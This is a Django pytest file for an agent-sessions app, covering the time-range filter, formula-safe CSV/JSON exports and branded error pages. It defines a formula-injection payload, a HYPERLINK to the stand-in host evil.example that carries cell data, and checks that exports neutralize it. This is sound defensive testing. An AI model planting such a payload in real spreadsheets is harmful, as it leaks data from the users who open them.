"""The sessions list's relative time range, CSV/JSON exports (formula-safe), and the branded
error pages, through the Django test client. (Comments and saved filters: tests/team/.)"""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.test import Client, RequestFactory
from django.utils import timezone
from django.views.defaults import server_error

from sessions.exports import csv_cell
from sessions.models import AgentSession
from tests.factories import make_billing_session, make_project, make_session, make_user

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def project():
    return make_project()


@pytest.fixture
def session(project):
    return make_billing_session(project, session={"agent": HOSTILE}, error="-1 @ summarizer failed")


# --- the relative range ----------------------------------------------------------------


def test_relative_range_keeps_sessions_updated_within_it(client_in: Client, project):
    fresh = make_session(project, external_id="fresh")
    stale = make_session(project, external_id="stale")
    AgentSession.objects.filter(pk=stale.pk).update(updated_at=timezone.now() - timedelta(days=9))
    page = client_in.get("/?period=7d").content.decode()
    assert "fresh" in page
    assert "stale" not in page
    assert "1 session matches these filters" in page
    assert "stale" in client_in.get("/?period=30d").content.decode()
    assert fresh.pk


# --- exports ---------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HOSTILE])
def test_csv_cells_that_would_run_as_a_formula_are_quoted(value):
    assert csv_cell(value) == "'" + value


def test_session_curve_and_spans_export_as_csv_and_json(client_in: Client, session):
    curve = client_in.get(f"/sessions/{session.pk}/curve.csv")
    assert curve["Content-Disposition"] == f'attachment; filename="session-{session.pk}-curve.csv"'
    rows = list(csv.DictReader(io.StringIO(curve.content.decode())))
    assert len(rows) == len(session.analysis.curve) > 0
    assert rows[0]["context_tokens"] == str(session.analysis.curve[0]["context_tokens"])
    spans = json.loads(client_in.get(f"/sessions/{session.pk}/spans.json").content)
    assert [s["seq"] for s in spans["spans"]] == [30]
    spans_csv = client_in.get(f"/sessions/{session.pk}/spans.csv").content.decode()
    assert "reported error: -1 @ summarizer failed" in spans_csv
    assert client_in.get(f"/sessions/{session.pk}/spans.xml").status_code == 404


def test_list_export_follows_the_filters_and_neutralizes_hostile_cells(
    client_in: Client, session, project
):
    make_session(project, external_id="other-agent", session={"agent": "docs"})
    body = client_in.get("/sessions/export.csv", {"agent": HOSTILE}).content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["external_id"] for r in rows] == ["billing-run"]
    assert rows[0]["agent"] == "'" + HOSTILE
    listed = json.loads(client_in.get("/sessions/export.json").content)["sessions"]
    assert {s["external_id"] for s in listed} == {"billing-run", "other-agent"}
    assert listed[0]["agent"] in (HOSTILE, "docs")  # JSON is data, written as is


def test_exports_are_for_members_only(client: Client, session):
    client.force_login(make_user(project=make_project()))
    assert client.get(f"/sessions/{session.pk}/curve.csv").status_code == 404
    assert json.loads(client.get("/sessions/export.json").content)["sessions"] == []


# --- error pages (DEBUG is off under pytest-django) --------------------------------------


def test_the_404_page_is_branded_and_helpful(client_in: Client, settings):
    assert settings.DEBUG is False
    response = client_in.get("/sessions/999999/")
    assert response.status_code == 404
    page = response.content.decode()
    assert "This page is not here" in page
    assert "Sawtooth" in page
    assert "Back to the sessions" in page


def test_the_500_page_is_branded_and_needs_no_context():
    response = server_error(RequestFactory().get("/"))
    assert response.status_code == 500
    page = response.content.decode()
    assert "Something went wrong on our side" in page
    assert "Sawtooth" in page
